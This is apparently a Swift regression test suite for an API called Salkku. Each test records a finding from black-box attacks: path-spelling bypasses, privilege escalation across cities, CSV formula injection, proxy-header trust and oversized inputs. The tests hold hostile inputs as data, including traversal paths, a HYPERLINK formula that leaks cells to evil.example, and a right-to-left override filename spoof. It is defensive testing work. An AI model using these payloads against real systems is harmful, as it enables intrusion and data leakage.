import Foundation
import GRDB
import HTTPTypes
import HummingbirdTesting
import SalkkuCore
import SalkkuExchange
import SalkkuDemo
import SalkkuStore
import Testing

@testable import SalkkuAPI

/// The findings of the black-box attack on Salkku (issue 14), each as a test that failed before its fix.
@Suite struct PathSpellingTests {
    @Test(arguments: [
        "//v1/tokens", "///v1/tokens", "/v1//tokens", "/v1/tokens/", "/./v1/tokens", "/v1/x/../tokens",
        "/v1/%2E/tokens", "/v1/cities/%2e%2e", "/v1/cities/a%00b", "/v1\\tokens",
    ])
    func nonCanonicalSpellingsAreRefused(path: String) {
        #expect(CanonicalPath.flaw(in: path) != nil, "\(path) passed as canonical")
    }

    @Test(arguments: ["/", "/healthz", "/v1/tokens", "/v1/cities/019b76da-a800-7000-8000-000a00000000/capabilities/sector-expertise%2Fsocial-health"])
    func canonicalPathsPass(path: String) {
        #expect(CanonicalPath.flaw(in: path) == nil)
    }

    /// Every operation of the router under every non-canonical spelling, without a token and as each role:
    /// nothing reaches a handler, so nothing is written and no token is made.
    @Test func noSpellingOfAnyRouteReachesAHandler() async throws {
        let app = try TestApp(demo: true)
        let routes = buildRouter(database: app.database).routes.map { (method: $0.method, path: $0.path.description) }
        let secrets: [String?] = [nil, "bogus"] + DemoData.demoTokens.map(\.secret)
        let before = try app.changeCount()
        let tokensBefore = try app.tokenCount()
        try await app.run(token: nil) { client in
            for route in routes {
                let path = route.path.replacingOccurrences(of: #"\{[^}]+\}"#, with: "019b76da-a800-7000-8000-000a00000000",
                                                                       options: .regularExpression)
                guard path.hasPrefix("/v1") else { continue }
                let spellings = ["/" + path, path + "/", path.replacingOccurrences(of: "/v1/", with: "/v1//"),
                                 path.replacingOccurrences(of: "/v1/", with: "/v1/./"), path.replacingOccurrences(of: "/v1/", with: "/v1/x/../")]
                for spelling in spellings {
                    for secret in secrets {
                        let headers: HTTPFields = secret.map { [.authorization: "Bearer \($0)"] } ?? [:]
                        let response = try await client.send(route.method, spelling, body: #"{"name": "x", "role": "admin"}"#,
                                                             headers: headers)
                        #expect(response.status == .notFound, "\(route.method) \(spelling) as \(secret ?? "nobody"): \(response.status)")
                    }
                }
            }
        }
        #expect(try app.changeCount() == before)
        #expect(try app.tokenCount() == tokensBefore)
    }
}

@Suite struct RequestDateTests {
    @Test func datesOutsideTheSupportedSpanAre422BeforeAnythingIsComputed() async throws {
        let app = try TestApp(demo: true)
        let helsinki = "019b76da-a800-7000-8000-000a00000000"
        try await app.run { client in
            for query in ["asOf=9999-12-31T22:00:00Z", "asOf=9999-12-31T23:59:59-23:59", "asOf=0001-01-01T00:00:00%2B23:59",
                          "asOf=1899-12-31", "asOf=2201-01-01", "endsBefore=9999-12-31", "noticeDeadlineBefore=0001-01-01"] {
                let response = try await client.send(.get, "/v1/cities/\(helsinki)/contracts?\(query)")
                #expect(response.status == .unprocessableContent, "\(query): \(response.status)")
            }
            for path in ["/v1/audit-log?from=0001-01-01", "/v1/audit-log?to=10000-01-01", "/v1/benchmark?asOf=9999-12-31T22:00:00Z",
                         "/v1/supplier-scorecards?from=2026-01&to=2026-12&asOf=9999-12-31T22:00:00Z",
                         "/v1/cities/\(helsinki)/maturity?asOf=9999-12-31T22:00:00Z"] {
                #expect(try await client.send(.get, path).status == .unprocessableContent, "\(path)")
            }
            let snapshot = try await client.send(.post, "/v1/cities/\(helsinki)/maturity-snapshots", body: #"{"asOf": "0001-06-15"}"#)
            #expect(snapshot.status == .unprocessableContent)
            #expect(try snapshot.errorLocations() == ["/asOf"])
            let sla = "019b76da-a800-7000-8000-009900000000"
            let measurement = try await client.send(.put, "/v1/cities/\(helsinki)/slas/\(sla)/measurements/2026-01",
                                                    body: #"{"value": 99.9, "source": "monitoring", "reportedAt": "9999-12-31T23:30:00-01:00"}"#)
            #expect(measurement.status == .unprocessableContent)
            #expect(try measurement.errorLocations() == ["/reportedAt"])
            // The last day of the span still answers as a business date; as a record time it is in the future.
            #expect(try await client.send(.get, "/v1/cities/\(helsinki)/contracts?on=2200-12-31").status == .ok)
            #expect(try await client.send(.get, "/v1/cities/\(helsinki)/contracts?asOf=2200-12-31").status == .unprocessableContent)
            #expect(try await client.send(.get, "/v1/cities/\(helsinki)/contracts?on=2201-01-01").status == .unprocessableContent)
        }
    }
}

@Suite struct ReportArithmeticTests {
    @Test func totalsBeyondSixtyFourBitsStayExact() throws {
        var total = Total()
        for _ in 0..<20 { total += Int64.max }
        #expect(total.int64 == nil)
        #expect(total > Total(Int64.max))
        #expect((total - total).int64 == 0)
        #expect((Total(Money.maxCents) * 10_000_000).int64 == nil)
        #expect((Total(Money.maxCents) * 9_000_000).int64 == 9_000_000_000_000_000_000)
        let written = try JSONDecoder().decode([Double].self, from: try JSONEncoder().encode([total]))
        #expect(abs(written[0] - 20 * Double(Int64.max)) < 1e6)
        #expect(Total(Int64(250)).dividedRoundingUp(by: 100) == 3)
        #expect((total * 70).dividedRoundingUp(by: 100) > Total(Int64.max))
        #expect((total * 100).dividedRoundingUp(by: 100) == total)
        #expect(total * -1 + total == Total())
    }

    /// 780 SLAs at the largest period fee, every period of ten years breached, with full credit: the sum of the
    /// credits passes 2^63 and is still exact, and the report answers.
    @Test func complianceTalliesOfTheExtremesDoNotOverflow() {
        var sum = ComplianceTally()
        for index in 0..<780 {
            let scope = SLAScope(slaId: "sla-\(index)", kind: .month, comparator: .atLeast, target: ExactDecimal(99),
                                 validFrom: LocalDate(year: 2016, month: 1, day: 1)!, validTo: LocalDate(year: 2025, month: 12, day: 31)!,
                                 creditPerBreachCents: ComplianceRules.creditCents(periodFeeCents: Money.maxCents, creditPercent: ExactDecimal(100)))
            let range = MonthRange(from: YearMonth(year: 2016, month: 1), to: YearMonth(year: 2025, month: 12))
            sum += ComplianceRules.tally(scope, range: range, measured: MeasuredCounts(breached: 120, ended: 120),
                                         on: LocalDate(year: 2026, month: 6, day: 1)!)
        }
        #expect(sum.breached == 93_600)
        #expect(sum.serviceCreditsCents == Total(Money.maxCents) * 93_600)
        #expect(sum.serviceCreditsCents.int64 == 93_600_000_000_000_000)
        #expect(sum.compliancePercent == ExactDecimal(0))
    }

    @Test func sharesOfHugeTotalsCompareWithoutOverflow() {
        #expect(Rounding.percent(Int64.max, of: 1) == ExactDecimal(thousandths: ExactDecimal.magnitudeLimit * 1_000))
        #expect(Rounding.percent(Int64.max / 2, of: Int64.max) == ExactDecimal(thousandths: 50_000))
        var part = Total(), whole = Total()
        for _ in 0..<10_000 {
            part += Money.maxCents
            whole += Money.maxCents
            whole += Money.maxCents
        }
        #expect(Rounding.percent(part, of: whole) == ExactDecimal(50))
    }

    @Test func moneyFieldsAreBoundedAtTenBillionEuros() async throws {
        let app = try TestApp()
        try await app.run { client in
            let city = try await client.create("/v1/cities", Bodies.city)["id"]!.string!
            var body = Bodies.service(providerId: nil, lifecycle: "plan")
            body = body.replacingOccurrences(of: "12000000", with: "1000000000001")
            let refused = try await client.send(.post, "/v1/cities/\(city)/services", body: body)
            #expect(refused.status == .unprocessableContent)
            #expect(try refused.errorLocations() == ["/annualCostCents"])
            let accepted = Bodies.service(providerId: nil, lifecycle: "plan").replacingOccurrences(of: "12000000", with: "1000000000000")
            #expect(try await client.send(.post, "/v1/cities/\(city)/services", body: accepted).status == .created)
        }
    }
}

extension TestApp {
    func tokenCount() throws -> Int {
        try database.reader.read { db in try Int.fetchOne(db, sql: "SELECT COUNT(*) FROM api_token") ?? 0 }
    }
}

@Suite struct RenewalArithmeticTests {
    /// The loop the closed form replaced, as the reference.
    static func periodsByLoop(from end: LocalDate, to date: LocalDate, period: Int) -> Int {
        var periods = 1
        while end.adding(months: periods * period) < date { periods += 1 }
        return periods
    }

    @Test func closedFormMatchesTheLoop() {
        var generator = SystemRandomNumberGenerator()
        for _ in 0..<5_000 {
            let end = LocalDate(daysSinceEpoch: Int.random(in: -25_000...60_000, using: &generator))
            let date = end.adding(days: Int.random(in: 1...20_000, using: &generator))
            let period = Int.random(in: 1...120, using: &generator)
            #expect(ContractTerms.renewalPeriods(from: end, to: date, periodMonths: period)
                    == Self.periodsByLoop(from: end, to: date, period: period), "\(end) → \(date) by \(period)")
        }
    }

    @Test func anEvaluationDateFarAwayAnswersAtOnce() {
        let schedule = ContractSchedule(startDate: LocalDate(year: 1900, month: 1, day: 1)!,
                                        initialEndDate: LocalDate(year: 1900, month: 12, day: 31)!, options: [], renewal: .tacit,
                                        renewalPeriodMonths: 1, noticePeriodMonths: 0, terminatedOn: nil, annualValueCents: nil)
        // Year 10000 is beyond what `adding(months:)` represents; the answer saturates instead of looping.
        let far = LocalDate(daysSinceEpoch: LocalDate(year: 9999, month: 12, day: 31)!.daysSinceEpoch + 1)
        _ = ContractTerms.currentEndDate(schedule, on: far)
        #expect(ContractTerms.currentEndDate(schedule, on: LocalDate(year: 2200, month: 12, day: 15)!)
                == LocalDate(year: 2200, month: 12, day: 31)!)
    }
}

@Suite struct SupplierOwnershipTests {
    static let helsinki = "019b76da-a800-7000-8000-000a00000000"

    @Test func onlyTheOwningCitysCIOChangesItsOwnProduction() async throws {
        let app = try TestApp(demo: true)
        let cio = DemoData.demoTokens.first { $0.request.role == .cio }!.secret
        let suppliers: [Resource<SupplierFields>] = try app.database.list(SupplierFields.self, ListQuery(afterId: nil, limit: 1000)).items
        let ownUnits = suppliers.filter { (supplier: Resource<SupplierFields>) -> Bool in supplier.fields.kind == SupplierKind.ownProduction }
        let own = try #require(ownUnits.first { (supplier: Resource<SupplierFields>) -> Bool in supplier.fields.ownerCityId == Self.helsinki })
        let espoo = try #require(ownUnits.first { (supplier: Resource<SupplierFields>) -> Bool in supplier.fields.ownerCityId != Self.helsinki })
        let shared = try #require(suppliers.first { (supplier: Resource<SupplierFields>) -> Bool in supplier.fields.kind == SupplierKind.commercial })
        let before = try app.changeCount()
        try await app.run(token: cio) { client in
            let foreign = try await client.send(.patch, "/v1/suppliers/\(espoo.meta.id)", body: #"{"kind": "commercial", "contact": {"email": "x@attacker.example"}}"#)
            #expect(foreign.status == .forbidden)
            #expect(try await client.send(.patch, "/v1/suppliers/\(espoo.meta.id)", body: #"{"name": "Renamed"}"#).status == .forbidden)
            #expect(try await client.send(.patch, "/v1/suppliers/\(shared.meta.id)", body: #"{"kind": "in-house-company"}"#).status == .forbidden)
            #expect(try await client.send(.patch, "/v1/suppliers/\(shared.meta.id)", body: #"{"ownerCityId": "\#(Self.helsinki)"}"#).status
                    == .unprocessableContent)
            let otherCity = try #require(espoo.fields.ownerCityId)
            let planted = try await client.send(.post, "/v1/suppliers",
                                                body: #"{"name": "Vieras yksikkö", "businessId": "0112038-9", "kind": "own-production", "ownerCityId": "\#(otherCity)"}"#)
            #expect(planted.status == .forbidden)
        }
        #expect(try app.changeCount() == before)
        try await app.run(token: cio) { client in
            #expect(try await client.send(.patch, "/v1/suppliers/\(own.meta.id)", body: #"{"contact": {"email": "ict@helsinki.example"}}"#).status == .ok)
            #expect(try await client.send(.patch, "/v1/suppliers/\(shared.meta.id)", body: #"{"contact": {"phone": "+358 9 123 456"}}"#).status == .ok)
            let unowned = try await client.send(.post, "/v1/suppliers", body: #"{"name": "Oma yksikkö", "businessId": "0112038-9", "kind": "own-production"}"#)
            #expect(unowned.status == .unprocessableContent)
            #expect(try unowned.errorLocations() == ["/ownerCityId"])
        }
        // An admin may change anything.
        let helsinki = Self.helsinki
        try await app.run { client in
            let renamed = try await client.send(.patch, "/v1/suppliers/\(espoo.meta.id)", body: #"{"name": "Espoon ICT"}"#)
            #expect(renamed.status == .ok)
            // Helsinki's own production unit and its municipal enterprise.
            #expect(try await client.send(.get, "/v1/suppliers?ownerCityId=\(helsinki)").json()["items"]!.array.count == 2)
        }
    }

    @Test func onlyAnAdminChangesAMunicipalityCode() async throws {
        let app = try TestApp(demo: true)
        let cio = DemoData.demoTokens.first { $0.request.role == .cio }!.secret
        let helsinki = Self.helsinki
        try await app.run(token: cio) { client in
            let recoded = try await client.send(.patch, "/v1/cities/\(helsinki)", body: #"{"municipalityCode": "092"}"#)
            #expect(recoded.status == .forbidden)
            #expect(try await client.send(.patch, "/v1/cities/\(helsinki)", body: #"{"population": 690000}"#).status == .ok)
        }
    }
}

@Suite struct ErrorAnswerTests {
    @Test func aBodyThatFailsEverywhereGetsASmallAnswer() async throws {
        let app = try TestApp(demo: true)
        let rows = (0..<5_000).map { #"{"slaId": "x\#($0)", "period": "2026-01", "value": 1, "unknown\#($0)": true, "other\#($0)": 1}"# }
        try await app.run { client in
            let response = try await client.send(.post, "/v1/cities/019b76da-a800-7000-8000-000a00000000/sla-measurements",
                                                 body: "[" + rows.joined(separator: ",") + "]")
            #expect(response.status == .unprocessableContent)
            let problem = try response.json()
            #expect(problem["errors"]?.array.count == 100)
            #expect((problem["errorCount"]?.int ?? 0) >= 10_000)
            #expect(response.body.readableBytes < 32_000)
        }
    }

    @Test func echoedTextIsCutShort() async throws {
        let app = try TestApp()
        let key = String(repeating: "k", count: 100_000)
        try await app.run { client in
            let response = try await client.send(.post, "/v1/suppliers", body: #"{"\#(key)": 1}"#)
            #expect(response.status == .unprocessableContent)
            #expect(response.body.readableBytes < 4_000)
            let long = "/v1/" + String(repeating: "a", count: 5_000)
            #expect(try await client.send(.get, long).body.readableBytes < 2_000)
        }
    }
}

@Suite struct AuthenticationLimitTests {
    @Test func aValidTokenAuthenticatesAfterAnAddressFailedTooOften() async throws {
        let app = try TestApp()
        let limits = RateLimits(failedAuthenticationsPerMinute: 0.01, failedAuthenticationBurst: 2)
        try await app.run(rateLimits: limits) { client in
            let first = try await client.send(.get, "/v1/cities", headers: [.authorization: "Bearer wrong"])
            #expect(first.status == .unauthorized)
            for _ in 0..<1 { #expect(try await client.send(.get, "/v1/cities", headers: [.authorization: "Bearer wrong"]).status == .unauthorized) }
            #expect(try await client.send(.get, "/v1/cities", headers: [.authorization: "Bearer wrong"]).status == .tooManyRequests)
            #expect(try await client.send(.get, "/v1/cities").status == .ok)
        }
    }

    @Test func forwardedForIsBelievedOnlyFromATrustedProxy() throws {
        let proxies = TrustedProxies([try #require(CIDR("10.0.0.0/8")), try #require(CIDR("::1"))])
        #expect(proxies.clientAddress(peer: "192.0.2.7", forwardedFor: ["198.51.100.1"]) == "192.0.2.7")
        #expect(proxies.clientAddress(peer: "10.1.2.3", forwardedFor: ["198.51.100.1"]) == "198.51.100.1")
        #expect(proxies.clientAddress(peer: "::1", forwardedFor: ["203.0.113.9, 198.51.100.1, 10.0.0.5"]) == "198.51.100.1")
        #expect(proxies.clientAddress(peer: "::ffff:10.0.0.1", forwardedFor: ["198.51.100.2"]) == "198.51.100.2")
        #expect(proxies.clientAddress(peer: "10.1.2.3", forwardedFor: ["not-an-address"]) == "10.1.2.3")
        #expect(CIDR("10.0.0.0/33") == nil && CIDR("example") == nil)
    }

    @Test func demoTokensStopWorkingWithoutDemoAndComeBackWithIt() throws {
        let app = try TestApp(demo: true)
        let now = app.database.clock()
        let admin = TokenSecret.hash("salkku-demo-admin")
        #expect(try DemoData.revokeDemoTokens(app.database) == 4)
        guard case .failure(.revoked) = try app.database.authenticate(tokenHash: admin, at: now) else {
            Issue.record("the demo admin token still works after a start without --demo")
            return
        }
        #expect(try DemoData.revokeDemoTokens(app.database) == 0)
        try DemoData.ensureDemoTokens(app.database)
        guard case .success = try app.database.authenticate(tokenHash: admin, at: now) else {
            Issue.record("the demo admin token was not reinstated")
            return
        }
    }
}

@Suite struct OutputSafetyTests {
    @Test func formulasInCSVCellsAreNeutralised() {
        #expect(CSV.field(#"=HYPERLINK("http://evil.example/"&A1,"x")"#) == #""'=HYPERLINK(""http://evil.example/""&A1,""x"")""#)
        #expect(CSV.field("@SUM(A1:A9)") == "'@SUM(A1:A9)")
        #expect(CSV.field("+1") == "'+1")
        #expect(CSV.field("\tx") == "'\tx")
        #expect(CSV.field("-0.5") == "-0.5")
        #expect(CSV.field("-x") == "'-x")
        #expect(CSV.field("Palveluraportti 10/2026") == "Palveluraportti 10/2026")
    }

    @Test func theBreachesCSVNeutralisesStoredEvidence() async throws {
        let app = try TestApp(demo: true)
        let helsinki = "019b76da-a800-7000-8000-000a00000000", sla = "019b76da-a800-7000-8000-009900000000"
        try await app.run { client in
            let put = try await client.send(.put, "/v1/cities/\(helsinki)/slas/\(sla)/measurements/2026-02",
                                            body: #"{"value": 1, "source": "supplier-report", "evidence": "=HYPERLINK(\"http://evil.example\",\"x\")"}"#)
            #expect(put.status == .created || put.status == .ok)
            let csv = try await client.send(.get, "/v1/cities/\(helsinki)/sla-breaches?from=2026-01&to=2026-03",
                                            headers: [.accept: "text/csv"]).text
            #expect(csv.contains("'=HYPERLINK"))
            #expect(!csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK"))
        }
    }

    @Test func theAuditLogNeverShowsTokenHashes() async throws {
        let app = try TestApp(demo: true)
        try await app.run { client in
            let created = try await client.create("/v1/tokens", #"{"name": "audit check", "role": "auditor"}"#)
            _ = try await client.send(.delete, "/v1/tokens/\(created["id"]!.string!)")
            let entries = try await client.send(.get, "/v1/audit-log?resourceType=token&limit=1000").json()["items"]!.array
            #expect(entries.count >= 6)
            for entry in entries {
                #expect(entry["after"]?["tokenHash"] == nil && entry["before"]?["tokenHash"] == nil)
            }
            #expect(try await client.send(.get, "/v1/audit-log/verify").json()["verified"]?.bool == true)
        }
    }
}

@Suite struct StrictInputTests {
    static let helsinki = "019b76da-a800-7000-8000-000a00000000"

    @Test func controlCharactersInQueryValuesAre422() async throws {
        let app = try TestApp(demo: true)
        try await app.run { client in
            let response = try await client.send(.get, "/v1/suppliers?q=%00")
            #expect(response.status == .unprocessableContent)
            #expect(try response.errorLocations() == ["q"])
            #expect(try await client.send(.get, "/v1/suppliers?q=a%0Ab").status == .unprocessableContent)
        }
    }

    @Test func numbersAreJudgedOnTheDigitsSent() async throws {
        let app = try TestApp(demo: true)
        let sla = "019b76da-a800-7000-8000-009900000000"
        try await app.run { client in
            for value in ["100.0000000000000001", "99.9999", "99.90000000000000001"] {
                let response = try await client.send(.put, "/v1/cities/\(Self.helsinki)/slas/\(sla)/measurements/2026-03",
                                                     body: #"{"value": \#(value), "source": "monitoring"}"#)
                #expect(response.status == .unprocessableContent, "\(value)")
                #expect(try response.errorLocations() == ["/value"], "\(value)")
            }
            let exact = try await client.send(.put, "/v1/cities/\(Self.helsinki)/slas/\(sla)/measurements/2026-03",
                                              body: #"{"value": 99.950, "source": "monitoring"}"#)
            #expect(exact.status == .created || exact.status == .ok)
        }
    }

    @Test func namesAreNFCAndTrimmedAndFreeOfControls() async throws {
        let app = try TestApp()
        try await app.run { client in
            let city = try await client.create("/v1/cities", Bodies.city)["id"]!.string!
            let composed = Bodies.service(name: "Kirjasto", providerId: nil, lifecycle: "plan", externalId: "\u{00C5}-1")
            #expect(try await client.send(.post, "/v1/cities/\(city)/services", body: composed).status == .created)
            let decomposed = Bodies.service(name: "Kirjasto 2", providerId: nil, lifecycle: "plan", externalId: "A\u{030A}-1 ")
            #expect(try await client.send(.post, "/v1/cities/\(city)/services", body: decomposed).status == .conflict)
            for name in ["Evil\u{202E}txt.exe", "Two\nlines", "Null\u{0001}"] {
                let escaped = name.unicodeScalars.map { $0.value < 0x20 ? String(format: "\\u%04X", $0.value) : String($0) }.joined()
                let response = try await client.send(.post, "/v1/cities/\(city)/services",
                                                     body: Bodies.service(name: escaped, providerId: nil, lifecycle: "plan"))
                #expect(response.status == .unprocessableContent, "\(escaped)")
                #expect(try response.errorLocations() == ["/name"])
            }
        }
    }

    @Test func ifMatchComparesStronglyAndReadOnlyNullsAreRefused() async throws {
        let app = try TestApp()
        try await app.run { client in
            let city = try await client.create("/v1/cities", Bodies.city)["id"]!.string!
            let weak = try await client.send(.patch, "/v1/cities/\(city)", body: #"{"population": 2}"#, headers: [.ifMatch: #"W/"1""#])
            #expect(weak.status == .preconditionFailed)
            let readOnly = try await client.send(.patch, "/v1/cities/\(city)", body: #"{"createdAt": null}"#)
            #expect(readOnly.status == .unprocessableContent)
            #expect(try readOnly.errorLocations() == ["/createdAt"])
            #expect(try await client.send(.patch, "/v1/cities/\(city)", body: #"{"population": 2}"#, headers: [.ifMatch: #""1""#]).status == .ok)
        }
    }

    @Test func unknownChangeTypesAre422() async throws {
        let app = try TestApp()
        try await app.run { client in
            let response = try await client.send(.get, "/v1/changes?types=contract,astrology")
            #expect(response.status == .unprocessableContent)
            #expect(try response.errorLocations() == ["types"])
            #expect(try await client.send(.get, "/v1/changes?types=contract,sla").status == .ok)
            #expect(try await client.send(.get, "/v1/audit-log?resourceType=astrology").status == .unprocessableContent)
        }
    }
}

/// What the second black-box attack found after the first fixes.
@Suite struct SecondAttackTests {
    static let helsinki = "019b76da-a800-7000-8000-000a00000000"

    @Test func anAdminOfSomeCitiesCannotReachBeyondThem() async throws {
        let app = try TestApp(demo: true)
        let scoped = try app.token(.admin, cities: ["091"])
        let espooUnit = try app.database.list(SupplierFields.self, ListQuery(afterId: nil, limit: 1000)).items
            .first { $0.fields.kind == .ownProduction && $0.fields.ownerCityId != Self.helsinki }
        let espooUnitId = try #require(espooUnit?.meta.id)
        let before = try app.changeCount()
        let tokensBefore = try app.tokenCount()
        try await app.run(token: scoped) { client in
            let escalated = try await client.send(.post, "/v1/tokens", body: #"{"name": "escalated", "role": "admin"}"#)
            #expect(escalated.status == .forbidden)
            #expect(try await client.send(.get, "/v1/tokens").status == .forbidden)
            let city = try await client.send(.post, "/v1/cities", body: #"{"municipalityCode": "092", "name": {"fi": "Vantaa"}}"#)
            #expect(city.status == .forbidden)
            let takeover = try await client.send(.patch, "/v1/suppliers/\(espooUnitId)", body: #"{"name": "Helsingin omaa"}"#)
            #expect(takeover.status == .forbidden)
            let deletion = try await client.send(.delete, "/v1/suppliers/\(espooUnitId)")
            #expect(deletion.status == .forbidden)
            let ownCity = try await client.send(.get, "/v1/cities/\(Self.helsinki)")
            #expect(ownCity.status == .ok)
        }
        #expect(try app.changeCount() == before)
        #expect(try app.tokenCount() == tokensBefore)
    }

    @Test func aCIOCannotTurnItsOwnUnitIntoASharedSupplier() async throws {
        let app = try TestApp(demo: true)
        let cio = DemoData.demoTokens.first { $0.request.role == .cio }!.secret
        let own = try app.database.list(SupplierFields.self, ListQuery(afterId: nil, limit: 1000)).items
            .first { $0.fields.kind == .ownProduction && $0.fields.ownerCityId == Self.helsinki }
        let ownId = try #require(own?.meta.id)
        try await app.run(token: cio) { client in
            let converted = try await client.send(.patch, "/v1/suppliers/\(ownId)", body: #"{"kind": "commercial", "ownerCityId": null}"#)
            #expect(converted.status == .forbidden)
            let enterprise = try await client.send(.patch, "/v1/suppliers/\(ownId)", body: #"{"kind": "municipal-enterprise"}"#)
            #expect(enterprise.status == .forbidden)
        }
    }

    @Test func everyTextIsCleanedEvenEvidence() async throws {
        let app = try TestApp(demo: true)
        try await app.run { client in
            let governance = try await client.send(.put, "/v1/cities/\(Self.helsinki)/governance",
                                                   body: #"{"centralItUnit": true, "evidence": {"centralItUnit": "x \u202e\u0001 y"}}"#)
            #expect(governance.status == .unprocessableContent)
            #expect(try governance.errorLocations() == ["/evidence/centralItUnit"])
            let zeroWidth = Bodies.service(name: "Kirjasto", providerId: nil, lifecycle: "plan", externalId: "K\u{00E4}\u{200B}-1")
            let refused = try await client.send(.post, "/v1/cities/\(Self.helsinki)/services", body: zeroWidth)
            #expect(refused.status == .unprocessableContent)
            #expect(try refused.errorLocations() == ["/externalId"])
        }
    }

    @Test func nullsForMembersThatDoNotExistOrAreReadOnlyAreRefused() async throws {
        let app = try TestApp(demo: true)
        let sla = "019b76da-a800-7000-8000-009900000000"
        try await app.run { client in
            for body in [#"{"bogus": null}"#, #"{"contact": {"bogus": null}}"#, #"{"id": null}"#] {
                let response = try await client.send(.patch, "/v1/suppliers/019b76da-a800-7000-8000-000000000000", body: body)
                #expect(response.status == .unprocessableContent, "\(body)")
            }
            let measurement = "/v1/cities/\(Self.helsinki)/slas/\(sla)/measurements/2024-12"
            for body in [#"{"id": null, "version": null}"#, #"{"slaId": null}"#, #"{"bogus": null}"#] {
                let response = try await client.send(.patch, measurement, body: body)
                #expect(response.status == .unprocessableContent, "\(body)")
            }
            #expect(try await client.send(.patch, measurement, body: #"{"dispute": null}"#).status == .ok)
        }
    }

    @Test func aBodyOfTooManyValuesIsRefusedBeforeItIsParsed() async throws {
        let app = try TestApp(demo: true)
        let body = "[" + Array(repeating: "{}", count: 500_000).joined(separator: ",") + "]"
        try await app.run { client in
            let response = try await client.send(.post, "/v1/cities/\(Self.helsinki)/sla-measurements", body: body)
            #expect(response.status == .contentTooLarge)
        }
    }
}
